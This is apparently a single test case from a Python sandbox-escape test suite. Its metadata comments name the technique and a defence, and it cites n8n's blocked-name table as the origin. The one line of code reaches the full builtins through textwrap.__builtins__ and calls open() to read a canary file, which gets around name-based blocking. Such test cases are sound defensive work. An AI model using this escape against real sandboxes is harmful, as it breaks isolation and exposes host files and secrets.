# id: module-dunder-builtins
# family: stdlib-reference-leak
# kind: escape
# invariant: D, E, G
# origin: n8n's table of blocked names
# technique: each module written in Python holds the full builtins as __builtins__
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import textwrap

print(textwrap.__builtins__["open"]("canary.txt").read())
